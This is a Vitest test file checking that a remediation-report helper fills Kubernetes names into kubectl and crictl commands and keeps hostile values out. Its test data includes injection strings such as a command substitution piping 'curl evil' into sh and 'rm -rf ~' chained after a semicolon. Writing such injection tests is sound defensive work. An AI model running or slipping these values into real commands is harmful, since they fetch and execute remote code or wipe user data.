import { describe, expect, it } from 'vitest';
import { fillPlaceholders } from '../../src/explain/build-report.js';

describe('remediation placeholders', () => {
  const step = '`kubectl logs -n {{namespace}} {{pod}} -c {{container}} --previous` on {{node}}';
  it('fills real Kubernetes names', () => {
    expect(fillPlaceholders(step, { namespace: 'shop', pod: 'web-7d9c-abcde', container: 'web', node: 'ip-10-0-1-7.ec2.internal' }))
      .toBe('`kubectl logs -n shop web-7d9c-abcde -c web --previous` on ip-10-0-1-7.ec2.internal');
  });
  it.each([
    ['command substitution', 'x$(curl evil|sh)'],
    ['a second command', 'web; rm -rf ~'],
    ['a backtick that would close the command', 'web`id`'],
    ['spaces', 'web --all'],
    ['a newline', 'web\nrm'],
  ])('keeps a hostile value (%s) out of the command', (_, bad) => {
    const out = fillPlaceholders(step, { namespace: 'shop', pod: bad, container: bad, node: bad });
    expect(out).toBe('`kubectl logs -n shop <pod> -c <container> --previous` on <node>');
  });
  it('a missing value keeps its name in angle brackets', () => {
    expect(fillPlaceholders('crictl pull {{image}}', {})).toBe('crictl pull <image>');
    expect(fillPlaceholders('crictl pull {{image}}', { image: 'registry.example.com/shop/web:1.4.2@sha256:abc' })).toBe('crictl pull registry.example.com/shop/web:1.4.2@sha256:abc');
  });
});
